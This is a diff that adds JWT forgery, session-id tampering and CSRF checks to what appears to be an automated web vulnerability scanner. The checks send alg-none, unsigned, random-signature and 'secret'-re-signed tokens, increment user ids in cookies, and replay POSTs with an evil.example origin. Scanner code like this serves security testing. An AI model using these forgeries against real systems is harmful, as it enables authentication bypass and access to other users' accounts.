@@ -8,6 +8,9 @@ Each attack returns the evidence (a short string) when it worked, else None.
 
 from __future__ import annotations
 
+import base64
+import hashlib
+import hmac
 import json
 import random
 import re
@@ -199,6 +202,68 @@ async def xslti(request: Request, point: str, sinks: tuple[Request, ...] = ()) -
     return f"xsl:value-of computed {a}*{b}" if str(a * b) in hit.text else None
 
 
+# ---------------------------------------------------------------------- authentication
+def _b64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")
+
+
+_TOKEN = re.compile(r"^(?:Bearer )?(e[w-z3][\w-]*)\.(e[w-z3][\w-]*)\.([\w-]*)$")
+
+
+async def jwt(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A token without a valid signature (alg none, stripped, random, re-signed with 'secret') answered
+    like the genuine one, while no token at all is refused."""
+    found = parse(request).get(point)
+    if "_JWT" in point:  # the token's own point and its claims: lunge attacks the value that carries it
+        return None
+    match = _TOKEN.match(found.value) if found is not None else None
+    if match is None or found is None:
+        return None
+    head, body, _ = match.groups()
+    prefix = found.value[: match.start(1)]
+    base = await send(request)
+    if (await send(inject(request, point, prefix + "nothing", append=False))).same_as(base):
+        return None
+    claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
+    extra = _b64url(json.dumps({**claims, "x": 1}).encode())
+    resigned = hmac.new(b"secret", f"{head}.{extra}".encode(), hashlib.sha256).digest()
+    forged = {
+        "alg none": f"{_b64url(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{body}.",
+        "stripped signature": f"{head}.{body}.",
+        "random signature": f"{head}.{body}.{_b64url(random.randbytes(32))}",
+        "re-signed with 'secret'": f"{head}.{extra}.{_b64url(resigned)}",
+    }
+    for name, token in forged.items():
+        if (await send(inject(request, point, prefix + token, append=False))).same_as(base):
+            return f"{name} accepted"
+    return None
+
+
+async def session_forgery(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A numeric id inside JSON inside a cookie, changed to its neighbour: another user's page."""
+    found = parse(request).get(point)
+    if found is None or not found.value.isdigit() or "COOKIE_" not in point or "JSON_DOC" not in point:
+        return None
+    base = await send(request)
+    other = await send(inject(request, point, str(int(found.value) + 1), append=False))
+    garbage = await send(inject(request, point, "987654321", append=False))
+    if other.status == 200 and not other.same_as(base) and not other.same_as(garbage):
+        return f"id {int(found.value) + 1} served another page"
+    return None
+
+
+async def csrf(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A cookie-authenticated POST sent with a foreign Origin and Referer, carried out as recorded;
+    without cookies it is refused."""
+    if point != "URI_value" or request.method != "POST" or "cookie" not in request.headers:
+        return None
+    base = await send(request)
+    anonymous = await send(request.with_headers(request.headers.remove("Cookie")))
+    foreign = request.headers.add("Origin", "https://evil.example").add("Referer", "https://evil.example/")
+    cross = await send(request.with_headers(foreign))
+    return "accepted from https://evil.example" if cross.same_as(base) and not anonymous.same_as(base) else None
+
+
 BY_CHECK: dict[str, tuple[Attack, ...]] = {
     "sqli": (sqli_error, sqli_boolean, sqli_time, sqli_status),
     "nosqli": (nosqli,),
@@ -210,6 +275,9 @@ BY_CHECK: dict[str, tuple[Attack, ...]] = {
     "cmdi": (cmdi,),
     "path-traversal": (traversal,),
     "open-redirect": (redirect,),
+    "jwt": (jwt,),
+    "session-forgery": (session_forgery,),
+    "csrf": (csrf,),
 }
 SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time,
                                         "status": sqli_status}
